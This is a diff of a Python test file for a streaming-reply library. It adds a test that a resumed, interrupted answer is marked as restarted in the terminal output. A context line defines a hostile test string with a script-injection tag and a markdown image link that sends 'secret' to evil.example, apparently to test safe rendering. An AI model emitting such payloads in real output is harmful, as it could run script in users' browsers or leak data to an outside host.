@@ -17,7 +17,7 @@ import bedrock_nb as nb
 from bedrock_nb.errors import IncompleteStreamError, RequestError
 from bedrock_nb.events import MessageStart, TextDelta
 from bedrock_nb.recording import Recording
-from bedrock_nb.server import INSTANT, BedrockServer
+from bedrock_nb.server import INSTANT, BedrockServer, faults
 
 HOSTILE = "Look: <script>alert(1)</script> ![x](https://evil.example/?q=secret) **bold**"
 
@@ -191,6 +191,20 @@ def test_something_else_than_a_reply_is_refused(wrong):
     """The error says what to write instead."""
     with pytest.raises(RequestError, match=r"nb\.live\(nb\.stream"):
         nb.live(wrong)
+
+
+def test_an_answer_that_begins_anew_says_so_in_a_terminal():
+    """What was printed of the first attempt cannot be taken back."""
+    with BedrockServer(latency=INSTANT, faults=[faults.end(after=5)]) as server:
+        reply = nb.stream(server.client(), "Count from 1 to 20", model="anthropic.claude-opus-4-6-v1:0")
+        with pytest.raises(IncompleteStreamError):
+            reply.drain()
+        out = io.StringIO()
+        with contextlib.redirect_stdout(out):
+            whole = nb.live(reply.resume())
+    first, _, second = out.getvalue().partition("\n\n[asked again from the start]\n\n")
+    assert whole.text.startswith(first)
+    assert second == whole.text + "\n"
 
 
 def test_halves_that_come_in_two_deltas_are_printed_as_one():
